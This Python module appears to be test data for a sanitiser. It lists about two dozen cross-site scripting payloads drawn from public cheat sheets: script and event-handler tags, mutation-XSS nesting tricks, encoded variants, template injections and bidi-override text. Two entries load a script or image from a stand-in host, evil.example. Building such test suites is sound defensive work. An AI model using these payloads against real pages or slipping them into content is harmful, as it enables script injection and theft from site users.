"""Texts that turn into script, links or pictures where a page takes text for markup; and harmless ones of their shape.

Each calls `hit()`, which the tests put into the page, or asks a host of its own. Known from: OWASP, the XSS Filter
Evasion Cheat Sheet; PortSwigger, the cross-site scripting cheat sheet; DOMPurify, the wiki "Attack Classes & Bypass
History" (texts that become markup when HTML is written out and read again); Gradio, the templates of gr.HTML, which
are Handlebars templates and JavaScript template literals in turn; Boucher and Anderson, Trojan Source (CVE-2021-42574).
"""

from __future__ import annotations

import re
from dataclasses import dataclass

HOST = "evil.example"
"""Where an attack would lead to."""


@dataclass(frozen=True, slots=True)
class Attack:
    """A text, and from where its kind is known."""

    kind: str
    known_from: str
    text: str

    @property
    def harmless(self) -> str:
        """A text of as many words of the same length, with nothing in it that could be markup."""
        return re.sub(r"[^\w\s.,!?]", "x", self.text)


ATTACKS = (
    Attack("script", "OWASP", "<script>hit()</script>"),
    Attack("script after a script", "OWASP", "</script><script>hit()</script>"),
    Attack("script of another host", "OWASP", f"<script src=//{HOST}/x.js>"),
    Attack("picture that fails", "OWASP", '<img src=x onerror="hit()">'),
    Attack("malformed picture", "OWASP", '<img """><script>hit()</script>">'),
    Attack("drawing that loads", "OWASP", "<svg/onload=hit()>"),
    Attack("drawing that moves", "PortSwigger", "<svg><animate onbegin=hit() attributeName=x dur=1s>"),
    Attack("out of double quotes", "PortSwigger", '" autofocus onfocus=hit() tabindex=1 x="'),
    Attack("out of single quotes", "PortSwigger", "' autofocus onfocus='hit()' x='"),
    Attack("out of the elements", "PortSwigger", "</span></p></article></div><button onclick=hit()>Ask</button>"),
    Attack("script link", "OWASP", '<a href="javascript:hit()">Read the report</a>'),
    Attack("script link in entities", "OWASP", '<a href="jav&#x09;ascript&colon;hit()">Read the report</a>'),
    Attack("data address", "OWASP", '<object data="data:text/html;base64,PHNjcmlwdD5oaXQoKTwvc2NyaXB0Pg==">'),
    Attack("frame with its own text", "PortSwigger", '<iframe srcdoc="<script>parent.hit()</script>"></iframe>'),
    Attack("noscript", "DOMPurify", '<noscript><p title="</noscript><img src=x onerror=hit()>">'),
    Attack(
        "formula and style",
        "DOMPurify",
        '<math><mtext><table><mglyph><style><!--</style><img title="--><img src=x onerror=hit()>">',
    ),
    Attack("template and style", "DOMPurify", '<template><style><a id="</style><img src=x onerror=hit()>"></template>'),
    Attack("entities", "OWASP", "&lt;img src=x onerror=hit()&gt; &#60;script&#62;hit()&#60;/script&#62;"),
    Attack("percent signs", "OWASP", "%3Cscript%3Ehit()%3C%2Fscript%3E \\u003cscript\\u003ehit()\\u003c/script\\u003e"),
    Attack("Markdown picture", "DOMPurify", f"![report](https://{HOST}/p.png?q=x)"),
    Attack("Markdown link", "OWASP", "[Read the report](javascript:hit())"),
    Attack("template literal", "Gradio", "${hit()} `${hit()}` \\`${hit()}"),
    Attack(
        "Handlebars and Svelte",
        "Gradio",
        "{{{constructor.constructor('hit()')()}}} {@html '<img src=x onerror=hit()>'}",
    ),
    Attack("turned direction", "Trojan Source", "\u202e<b onclick=hit()>\u2066 report \u2069\u202c</b>"),
    Attack("null characters", "OWASP", "<scr\x00ipt>hit()</scr\x00ipt><img\x00 src=x onerror=hit()>"),
)
